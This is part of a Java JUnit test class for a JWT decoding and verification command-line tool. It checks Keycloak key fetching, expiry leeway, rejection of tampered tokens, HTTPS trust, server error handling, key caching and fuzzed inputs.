        String token = minted(Map.of("exp", NOW.getEpochSecond() - 5));
        assertEquals(
                0,
                clocked(token)
                        .run("--verify", "--keycloak", servers.keycloak(), "--leeway=6")
                        .exit());
        clocked(token)
                .run("--verify", "--keycloak", servers.keycloak(), "--leeway=0")
                .after(OVER_HTTP)
                .says(Exit.BAD_TOKEN, "the token expired 5 s ago (0 s are tolerated)", "clocks");
    }

    @Test
    void audience_and_the_other_checks_hold_with_the_signature() {
        ToolRun run = clocked(minted(Map.of("aud", List.of("archive", "account"))))
                .run("--verify", "--keycloak", servers.keycloak(), "--require-aud", "archive", "--min-ttl", "60");
        assertEquals(0, run.exit(), run::toString);
        assertEquals(OVER_HTTP, run.err(), "no word of a signature that is not verified");
        clocked(minted(Map.of()))
                .run("--verify", "--keycloak", servers.keycloak(), "--require-aud", "archive")
                .after(OVER_HTTP)
                .says(Exit.BAD_TOKEN, "wanted aud archive, but the token has none", "audience mapper");
    }

    @Test
    void a_changed_token_does_not_verify() {
        String token = minted(Map.of());
        for (List<Object> keys : sources()) {
            ToolRun run = clocked(tampered(token)).run(with("--verify", keys));
            run.after(OVER_HTTP).says(Exit.BAD_TOKEN, "the signature is not valid", "changed");
            assertEquals(
                    "",
                    clocked(tampered(token))
                            .run(with("--verify", with("--pass-through", keys)))
                            .out());
        }
        String[] parts = token.split("\\.");
        clocked(parts[0] + "." + parts[1] + ".")
                .run("--verify", "--keycloak", servers.keycloak())
                .after(OVER_HTTP, "the signature is missing")
                .says(Exit.BAD_TOKEN, "the signature is not valid", "");
    }

    @Test
    void a_keycloak_of_before_17_is_found_below_auth() {
        servers.provider().servePrefix("/auth");
        String token = minted(Map.of());
        URI_BASES.forEach(suffix -> {
            String base = servers.keycloak().toString().replaceFirst("/auth$", "") + suffix;
            assertEquals(0, clocked(token).run("--verify", "--keycloak", base).exit(), base);
        });
    }

    private static final List<String> URI_BASES = List.of("", "/", "/auth", "/auth/");

    @Test
    void https_needs_trust_and_k_earns_a_warning() throws Exception {
        // By the system's clock, since certificates have their dates too.
        try (Sandbox own = Sandbox.start()) {
            own.provider().issuerFollowsHost(true);
            String issuer = own.keycloakHttps() + "/realms/dcm4che";
            String token = own.provider().mint(Map.of("iss", issuer), Map.of());
            Path ca = Files.writeString(folder.resolve("ca.pem"), own.identity().pem());
            assertEquals(
                    payload(token) + "\n",
                    decode(token)
                            .run("--verify", "--issuer", issuer, "--cacert", ca)
                            .succeeds());
            decode(token)
                    .run("--verify", "--issuer", issuer)
                    .fails(Exit.NO_ANSWER, "is not trusted", "--server-cert sha256:");
            assertEquals(
                    "decodejwt: warning: --insecure: any server that poses as 127.0.0.1 can forge the keys\n",
                    decode(token).run("--verify", "--issuer", issuer, "-k").err());
        }
    }

    @Test
    void trouble_with_the_server_is_no_fault_of_the_token() throws Exception {
        String token = minted(Map.of());
        int port;
        try (ServerSocket socket = new ServerSocket(0)) {
            port = socket.getLocalPort();
        }
        for (String source : List.of("--issuer", "--keycloak", "--jwks")) {
            clocked(token)
                    .run("--verify", source, "http://127.0.0.1:" + port, "--retry=0")
                    .after(OVER_HTTP)
                    .says(Exit.NO_ANSWER, "127.0.0.1:" + port, "");
        }
        servers.provider().web().faults().next(1, Faults.status(500, "text/plain", "oops"));
        verify(token).after(OVER_HTTP).says(Exit.SERVER_FAILED, "answered 500", "");
        servers.provider().web().faults().next(1, Faults.garbage("text/html", "<html>"));
        verify(token).after(OVER_HTTP).says(Exit.SERVER_FAILED, "answered with an HTML page", "check the URL");
        servers.provider().web().faults().next(1, Fault.none());
        servers.provider().web().faults().next(1, Faults.garbage("application/json", "{\"keys\":7}"));
        verify(token).after(OVER_HTTP).says(Exit.SERVER_FAILED, "there is no key set at ", "jwks_uri");
        servers.provider().web().faults().next(1, Fault.none());
        servers.provider().web().faults().next(1, Faults.status(403, "text/plain", "no"));
        verify(token).after(OVER_HTTP).says(Exit.REFUSED, "answered 403", "certs");
        clocked(token)
                .run("--verify", "--keycloak", servers.keycloak(), "--realm=DCM4CHE")
                .after(OVER_HTTP)
                .says(Exit.REFUSED, "answered 404", "upper and lower case");
    }

    @Test
    void nothing_is_fetched_where_the_token_is_none_or_nobody_asked() {
        servers.provider().web().forgetRequests();
        decode("").run("--verify", "--keycloak", servers.keycloak());
        decode("hello").run("--verify", "--keycloak", servers.keycloak());
        decode(minted(Map.of())).run("--keycloak", servers.keycloak(), "--issuer=https://x", "--info");
        decode(T + "\n" + T2).run("--verify", "--keycloak", servers.keycloak());
        assertEquals(List.of(), servers.provider().web().requests());
    }

    @Test
    void the_issuer_of_a_profile_is_not_mixed_with_keys_of_the_command_line() throws Exception {
        Permissions.set(folder, "rwx------");
        Permissions.ownFile(folder.resolve("hospital.conf"), "keycloak = " + servers.keycloak() + "\n");
        String token = minted(Map.of());
        assertEquals(
                0,
                clocked(token)
                        .env("ARC_CONFIG_HOME", folder)
                        .run("--verify", "-p", "hospital")
                        .exit());
        Path jwks = Files.writeString(folder.resolve("jwks.json"), get("/protocol/openid-connect/certs"));
        assertEquals(
                payload(token) + "\n",
                clocked(token)
                        .env("ARC_CONFIG_HOME", folder)
                        .run("--verify", "-p", "hospital", "--jwks", jwks)
                        .succeeds());
    }

    @Test
    void keys_are_kept_for_five_minutes_and_asked_for_again_when_one_is_missing() {
        try (Sandbox own = new TestSandbox(InstantSource.fixed(NOW))) {
            String first = own.provider().mint(Map.of("exp", NOW.getEpochSecond() + 9999), Map.of());
            assertEquals(0, cached(first, own, 0).exit());
            own.provider().web().forgetRequests();
            assertEquals(0, cached(first, own, 0).exit());
            assertEquals(0, cached(first, own, 299).exit());
            assertEquals(0, own.provider().web().requests().size());
            assertEquals(0, cached(first, own, 300).exit());
            assertEquals(2, own.provider().web().requests().size(), "discovery and keys");

            own.provider().rotateKey();
            String second = own.provider().mint(Map.of("exp", NOW.getEpochSecond() + 9999), Map.of());
            own.provider().web().forgetRequests();
            assertEquals(0, cached(second, own, 301).exit());
            assertEquals(2, own.provider().web().requests().size());
            cached(first, own, 302).after(OVER_HTTP).says(Exit.BAD_TOKEN, "there is no key with the kid ", "withdrawn");
            assertEquals(4, own.provider().web().requests().size());
            own.provider().web().forgetRequests();
            assertEquals(0, cached(second, own, 303, "--no-cache").exit());
            assertEquals(0, cached(second, own, 303, "-k").exit());
            assertEquals(4, own.provider().web().requests().size(), "other trust, other keys");
            assertEquals(0, cached(second, own, 100).exit(), "the clock was set back");
        }
    }

    private ToolRun cached(String token, Sandbox own, long later, String... more) {
        List<Object> arguments = new ArrayList<>(List.of("--verify", "--keycloak", own.keycloak()));
        arguments.addAll(Arrays.asList(more));
        return ToolRun.of(new decodejwt())
                .stdin(token)
                .env("ARC_NO_CACHE", "false")
                .env("XDG_CACHE_HOME", folder)
                .clock(InstantSource.fixed(NOW.plusSeconds(later)))
                .run(arguments.toArray());
    }

    @Test
    void keys_are_not_asked_for_twice_in_one_run() {
        try (Sandbox own = new TestSandbox(InstantSource.fixed(NOW))) {
            String other = minted(Map.of("exp", NOW.getEpochSecond() + 9999));
            own.provider().rotateKey();
            own.provider().web().forgetRequests();
            assertEquals(Exit.BAD_TOKEN.code(), cached(other, own, 0).exit());
            assertEquals(2, own.provider().web().requests().size(), "discovery and keys");
        }
    }

    @Test
    void a_damaged_cache_is_as_good_as_none() throws Exception {
        String token = minted(Map.of("exp", NOW.getEpochSecond() + 9999));
        cached(token, servers, 0);
        for (String damage :
                List.of("", "{", "{\"keys\":7}", "{\"issuer\":null,\"keys\":\"{}\",\"fetched\":1767225600}")) {
            try (Stream<Path> files = Files.walk(folder.resolve("arc-scripts"))) {
                for (Path file : files.filter(Files::isRegularFile).toList()) {
                    Files.writeString(file, damage);
                }
            }
            assertEquals(0, cached(token, servers, 1).exit(), damage);
        }
    }

    // --- the published examples, through the command

    static Stream<VerifierTest.Example> examples() throws Exception {
        return VerifierTest.examples();
    }

    @ParameterizedTest
    @MethodSource("examples")
    void the_published_examples_are_what_they_are(VerifierTest.Example example) throws Exception {
        String token = example.text("token");
        if (example.members().containsKey("claims")) {
            String printed = decode(token).run("-s").succeeds();
            assertEquals(example.members().get("claims"), Json.parse(printed));
        } else if (example.members().containsKey("header")) {
            assertEquals(
                    example.members().get("header"),
                    Json.parse(decode(token).run("--header").succeeds()));
            decode(token).run().fails(Exit.BAD_TOKEN, "the token is encrypted", "--header");
        } else {
            decode(token).run().fails(Exit.BAD_TOKEN, "the payload is not a JSON object but other text", "not a JWT");
        }
        Map<String, Object> key = Json.asObject(example.members().get("key"));
        if (key != null && !key.get("kty").equals("oct") && example.members().containsKey("claims")) {
            Path file = Files.writeString(folder.resolve("key.jwk"), Json.compact(key));
            decode(token)
                    .clock(InstantSource.fixed(NOW))
                    .run("--verify", "--public-key", file)
                    .says(Exit.BAD_TOKEN, "the token expired 14 y 288 d ago", "gettoken");
            assertEquals(
                    0,
                    decode(token)
                            .clock(InstantSource.fixed(Instant.ofEpochSecond(1300819379)))
                            .run("--verify", "--public-key", file)
                            .exit());
        }
    }

    // --- anything at all

    private static final Set<Integer> CODES = Set.of(0, 2, 6);

    @Test
    void any_input_and_options_end_with_a_code_of_the_contract() {
        long seed = System.nanoTime();
        Random random = new Random(seed);
        List<String> options = List.of(
                "--header",
                "--all",
                "--dates",
                "--info",
                "--claim=sub",
                "--claim=a[0].b",
                "--select=id_token",
                "--pass-through",
                "--require=sub=ab",
                "--require-role=auth",
                "--require-role=a:b",
                "--require-aud=x",
                "--min-ttl=5",
                "--silent",
                "--no-info");
        for (int i = 0; i < 3_000; i++) {
            byte[] input = randomInput(random);
            List<Object> arguments = new ArrayList<>();
            for (int j = random.nextInt(4); j > 0; j--) {
                arguments.add(options.get(random.nextInt(options.size())));
            }
            ToolRun.Setting setting = run(input).clock(InstantSource.fixed(NOW));
            if (random.nextBoolean()) {
                setting.terminal(1).terminal(2);
            }
            ToolRun run = setting.run(arguments.toArray());
            boolean isFine = CODES.contains(run.exit())
                    && !run.err().contains("internal error")
                    && !run.err().contains("Exception")
                    && (run.exit() == 0) == !run.err().contains(": hint: ")
                    && (run.exit() != 0 || run.out().isEmpty() == (input.length == 0));
            if (!isFine) {
                fail("seed " + seed + ", " + arguments + ", "
                        + Base64.getEncoder().encodeToString(input) + "\n" + run);
            }
        }
    }

    private static byte[] randomInput(Random random) {
        if (random.nextInt(4) == 0) {
            byte[] bytes = new byte[random.nextInt(100)];
            random.nextBytes(bytes);
            return bytes;
        }
        String[] parts = {
            T, T2, JWE, H0, "{\"access_token\":\"", "\"}", "Bearer ", "\n", ".", "null", "\u0000", "é", "="
        };
        StringBuilder text = new StringBuilder(random.nextBoolean() ? T : "");
        for (int i = random.nextInt(5); i > 0; i--) {
            text.insert(random.nextInt(text.length() + 1), parts[random.nextInt(parts.length)]);
        }
        return text.toString().getBytes(random.nextInt(8) == 0 ? StandardCharsets.UTF_16 : StandardCharsets.UTF_8);
    }

    @Test
    void any_claims_come_back_through_the_command() throws Exception {
        long seed = System.nanoTime();
        Random random = new Random(seed);
        for (int i = 0; i < 1_000; i++) {
            Map<String, Object> claims = new LinkedHashMap<>();
            for (int j = random.nextInt(6); j >= 0; j--) {
                StringBuilder text = new StringBuilder();
                for (int k = random.nextInt(9); k > 0; k--) {
                    int c = random.nextInt(random.nextBoolean() ? 0x80 : 0x11000);
                    text.appendCodePoint(c >= 0xd800 && c < 0xe000 ? 'x' : c);
                }
                claims.put(
                        text + "" + j,
                        random.nextBoolean()
                                ? text.toString()
                                : new Json.Number(random.nextInt() + ".50e" + random.nextInt(500)));
            }
            String printed = decode(token(Json.compact(claims))).run("-s").succeeds();
            assertEquals(claims, Json.parse(printed), () -> "seed " + seed);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"ES256K", "HS256/64", "XYZ", "RSA-OAEP"})
    void an_algorithm_that_the_option_does_not_know_is_not_proposed_for_it(String algorithm) throws Exception {
        Path keys = Files.writeString(folder.resolve("keys"), "{\"keys\":[]}");
        String token = segment("{\"alg\":\"" + algorithm + "\"}") + "." + segment("{\"sub\":\"a\"}") + ".c2ln";
        ToolRun run = decode(token).with("-s", "--pass-through").run("--verify", "--jwks", keys);
        run.fails(Exit.BAD_TOKEN, "alg is " + algorithm, "does not know this algorithm");
        assertFalse(run.err().contains("--alg"), run.err());
        decode(token)
                .run("--verify", "--jwks", keys, "--alg", algorithm)
                .fails(Exit.USAGE, "--alg cannot be '" + algorithm + "'", "one or more of RS256,");
    }

    @Test
    void a_lone_surrogate_keeps_its_escape_and_is_required_as_it_is_shown() {
        String claims = "{\"a\":\"x\\ud800y\",\"b\":\"\\ud83d\\ude00\",\"r\":[\"\\udc00\"],\"\\udfff\":1}";
        String token = token(claims);
        assertEquals(
                claims.replace("\\ud83d\\ude00", "\ud83d\ude00") + "\n",
                decode(token).run().succeeds());
        assertEquals("x\\ud800y\n", decode(token).run("--claim", "a").succeeds());
        assertEquals("\\udc00\n", decode(token).run("--claim", "r").succeeds());
        ToolRun.Setting tool = decode(token).with("-s", "--pass-through");
        assertEquals(
                token,
                tool.run("--require", "a=x\\ud800y", "--require", "r=\\udc00").succeeds());
        decode(token)
                .with("-s", "--pass-through")
                .run("--require", "a=x?y")
                .fails(Exit.BAD_TOKEN, "but it is x\\ud800y", "right token");
    }

    // --- what the tests are made of

    private static ToolRun.Setting decode(String input) {
        return run(input.getBytes(StandardCharsets.UTF_8));
    }

    private static ToolRun.Setting run(byte[] input) {
        return ToolRun.of(new decodejwt()).stdin(input);
    }

    private static ToolRun.Setting clocked(String input) {
        return decode(input).clock(InstantSource.fixed(NOW));
    }

    private static ToolRun.Setting info() {
        return clocked(token(sample()));
    }

    /** A run with streams instead of text. */
    private static ToolRun streamed(InputStream in, ByteArrayOutputStream out, String... arguments) {
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        Messages messages = new Messages("decodejwt", err, false, false);
        Io io = new Io(
                in, out, messages, Map.of("HOME", "/nonexistent"), InstantSource.fixed(NOW), descriptor -> false);
        int exit = Cli.run(new decodejwt(), io, arguments);
        return new ToolRun(exit, out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8));
    }

    private static ToolRun verify(String token) {
        return clocked(token).run("--verify", "--keycloak", servers.keycloak(), "--retry=0");
    }

    private static Object[] with(Object first, Object rest) {
        List<Object> all = new ArrayList<>(List.of(first));
        all.addAll(rest instanceof List<?> list ? list : Arrays.asList((Object[]) rest));
        return all.toArray();
    }

    private static String minted(Map<String, Object> claims) {
        return servers.token(claims);
    }

    private static String payload(String token) {
        return new String(Base64.getUrlDecoder().decode(token.split("\\.")[1]), StandardCharsets.UTF_8);
    }

    private static String tampered(String token) {
        String[] parts = token.split("\\.");
        return parts[0] + "." + segment(payload(token).replace("\"azp\":\"curl\"", "\"azp\":\"root\"")) + "."
                + parts[2];
    }

    private static String get(String path) throws Exception {
        try (InputStream in =
                URI.create(servers.provider().issuer() + path).toURL().openStream()) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static List<String> roles(int count) {
        List<String> roles = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            roles.add("role-with-a-long-name-" + i);
        }
        return roles;
    }

    private static String token(String claims) {
        return HK + "." + segment(claims) + ".c2ln";
    }

    private static String segment(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    /** The claims of a token that the archive accepts. */
    private static String sample() {
        return "{\"exp\":1767225900,\"iat\":1767225540,\"jti\":\"trrtcc:1\",\"iss\":\"" + ISSUER
                + "\",\"aud\":\"account\",\"sub\":\"0f8fad5b\",\"typ\":\"Bearer\",\"azp\":\"curl\","
                + "\"realm_access\":{\"roles\":[\"auth\",\"user\"]},"
                + "\"resource_access\":{\"my.client\":{\"roles\":[\"a\",\"b\"]}},"
                + "\"preferred_username\":\"service-account-curl\",\"email_verified\":false,\"nothing\":null,"
                + "\"empty\":[],\"odd\":{\"a=b\":\"c=d\"}}";
    }
}
